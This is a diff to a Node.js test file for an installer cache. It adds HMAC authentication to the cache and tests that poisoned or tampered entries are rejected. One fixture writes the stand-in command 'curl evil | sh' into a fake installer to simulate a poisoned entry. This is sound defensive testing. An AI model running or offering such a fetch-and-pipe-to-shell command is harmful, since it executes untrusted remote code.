@@ -14,7 +14,9 @@ import path from 'node:path';
 import { after, describe, it } from 'node:test';
 import {
   CHECKSUM_FILE,
+  HMAC_FILE,
   actionsCache,
+  cacheAuthKey,
   checksumProblem,
   defaultLocalCacheDir,
   localCache,
@@ -24,6 +26,8 @@ import {
 } from '../src/agents/cache.js';
 import { recordingLog } from './sim/recording-log.js';
 
+/** The cache's secret key, as a run derives it from the tenant's API secret. */
+const AUTH = cacheAuthKey('the-tenant-api-secret');
 const scratch = mkdtempSync(path.join(tmpdir(), 'uptycs-cache-'));
 after(() => rmSync(scratch, { recursive: true, force: true }));
 let n = 0;
@@ -101,9 +105,9 @@ describe('actionsCache', () => {
     const log = recordingLog();
     const cache = actionsCache(log, fake.api);
     const d = filledDir();
-    await cache.save('k1', d);
+    await cache.save('k1', d, AUTH);
     const target = emptyDir();
-    assert.equal(await cache.restore('k1', target), true);
+    assert.equal(await cache.restore('k1', target, AUTH), true);
     assert.equal(readFileSync(path.join(target, 'windows.msi'), 'utf8'), 'msi bytes');
     assert.deepEqual(
       fake.calls.map((c) => c.op),
@@ -111,17 +115,17 @@ describe('actionsCache', () => {
     );
     assert.deepEqual(fake.calls[0]!.paths, [d]);
     assert.deepEqual(fake.calls[1]!.paths, [target]);
-    assert.equal(await cache.restore('other', emptyDir()), false);
+    assert.equal(await cache.restore('other', emptyDir(), AUTH), false);
   });
 
   it('a damaged entry is a miss with a warning, and the folder is left empty', async () => {
     const fake = fakeActions();
     const log = recordingLog();
     const cache = actionsCache(log, fake.api);
-    await cache.save('k', filledDir());
+    await cache.save('k', filledDir(), AUTH);
     writeFileSync(path.join(fake.store.get('k')!, 'windows.msi'), 'tampered');
     const target = emptyDir();
-    assert.equal(await cache.restore('k', target), false);
+    assert.equal(await cache.restore('k', target, AUTH), false);
     assert.match(log.text(), /warning: .*damaged \(windows\.msi does not match its sha256\)/);
     assert.deepEqual(readdirSync(target), []);
   });
@@ -129,15 +133,15 @@ describe('actionsCache', () => {
   it('never fails the job: unavailable, restore errors and save errors become a miss or a warning', async () => {
     const off = fakeActions({ available: false });
     const log = recordingLog();
-    assert.equal(await actionsCache(log, off.api).restore('k', emptyDir()), false);
-    await actionsCache(log, off.api).save('k', filledDir());
+    assert.equal(await actionsCache(log, off.api).restore('k', emptyDir(), AUTH), false);
+    await actionsCache(log, off.api).save('k', filledDir(), AUTH);
     assert.equal(off.calls.length, 0);
 
     const broken = fakeActions({ failRestore: true, failSave: new Error('disk full') });
     const log2 = recordingLog();
     const c = actionsCache(log2, broken.api);
-    assert.equal(await c.restore('k', emptyDir()), false);
-    await c.save('k', filledDir());
+    assert.equal(await c.restore('k', emptyDir(), AUTH), false);
+    await c.save('k', filledDir(), AUTH);
     assert.match(
       log2.text(),
       /warning: GitHub Actions cache: restoring k failed \(cache service unreachable\)/,
@@ -147,8 +151,11 @@ describe('actionsCache', () => {
     const raced = new Error('Unable to reserve cache with key k, another job may be creating this cache.');
     raced.name = 'ReserveCacheError';
     const log3 = recordingLog();
-    await actionsCache(log3, fakeActions({ failSave: raced }).api).save('k', filledDir());
-    assert.doesNotMatch(log3.text(), /warning/);
+    await actionsCache(log3, fakeActions({ failSave: raced }).api).save('k', filledDir(), AUTH);
+    assert.match(
+      log3.text(),
+      /warning: GitHub Actions cache: not saved \(Unable to reserve cache.*the next run will download again/,
+    );
   });
 });
 
@@ -157,16 +164,16 @@ describe('localCache', () => {
     const root = path.join(scratch, 'local');
     const log = recordingLog();
     const cache = localCache(log, root);
-    assert.equal(await cache.restore('v1', emptyDir()), false);
-    await cache.save('v1', filledDir());
+    assert.equal(await cache.restore('v1', emptyDir(), AUTH), false);
+    await cache.save('v1', filledDir(), AUTH);
     assert.ok(existsSync(path.join(root, 'v1', CHECKSUM_FILE)));
     assert.ok(!readdirSync(root).some((f) => f.endsWith('.tmp')));
     const t = emptyDir();
-    assert.equal(await cache.restore('v1', t), true);
+    assert.equal(await cache.restore('v1', t, AUTH), true);
     assert.equal(readFileSync(path.join(t, 'centos-x86_64', 'a.rpm'), 'utf8'), 'rpm bytes');
     rmSync(path.join(root, 'v1', 'windows.msi'));
     const t2 = emptyDir();
-    assert.equal(await cache.restore('v1', t2), false);
+    assert.equal(await cache.restore('v1', t2, AUTH), false);
     assert.match(log.text(), /windows\.msi is missing/);
     assert.deepEqual(readdirSync(t2), []);
   });
@@ -177,5 +184,48 @@ describe('localCache', () => {
       path.join('/x/cache', 'uptycs-distributor-action', 'installers'),
     );
     assert.match(defaultLocalCacheDir({}), /\.cache[/\\]uptycs-distributor-action[/\\]installers$/);
+  });
+});
+
+describe('a poisoned cache is never used', () => {
+  it('an entry seeded without the API secret (files and SHA256SUMS consistent) is ignored with a warning', async () => {
+    const root = path.join(scratch, 'poison-local');
+    const log = recordingLog();
+    const cache = localCache(log, root);
+    // The attacker can write the store and compute checksums, but has no API secret.
+    const seeded = filledDir();
+    writeFileSync(path.join(seeded, 'centos-x86_64', 'a.rpm'), 'curl evil | sh');
+    await writeChecksums(seeded);
+    cpSync(seeded, path.join(root, 'v9'), { recursive: true });
+    const t = emptyDir();
+    assert.equal(await cache.restore('v9', t, AUTH), false);
+    assert.match(log.text(), /warning: .*entry v9 is not trusted \(SHA256SUMS\.hmac is missing/);
+    assert.deepEqual(readdirSync(t), []);
+
+    // With an HMAC made from another secret: still refused.
+    await writeChecksums(seeded, undefined, { key: 'v9', auth: cacheAuthKey('a guess') });
+    cpSync(seeded, path.join(root, 'v9'), { recursive: true });
+    assert.equal(await cache.restore('v9', emptyDir(), AUTH), false);
+    assert.match(log.text(), /entry v9 is not trusted \(its HMAC does not verify/);
+  });
+
+  it('replacing a cached installer and its SHA256SUMS line is caught; a good entry moved to another key too', async () => {
+    const fake = fakeActions();
+    const log = recordingLog();
+    const cache = actionsCache(log, fake.api);
+    await cache.save('v1', filledDir(), AUTH);
+    const stored = fake.store.get('v1')!;
+    writeFileSync(path.join(stored, 'windows.msi'), 'evil msi');
+    await writeChecksums(stored); // recomputes SHA256SUMS (and leaves the old HMAC)
+    assert.equal(await cache.restore('v1', emptyDir(), AUTH), false);
+    assert.match(
+      log.text(),
+      /warning: GitHub Actions cache: entry v1 is not trusted \(its HMAC does not verify/,
+    );
+
+    await cache.save('v1-old', filledDir(), AUTH);
+    fake.store.set('v2', fake.store.get('v1-old')!);
+    assert.equal(await cache.restore('v2', emptyDir(), AUTH), false, 'an entry is bound to its key');
+    assert.ok(readFileSync(path.join(fake.store.get('v2')!, HMAC_FILE), 'utf8').trim().length === 64);
   });
 });
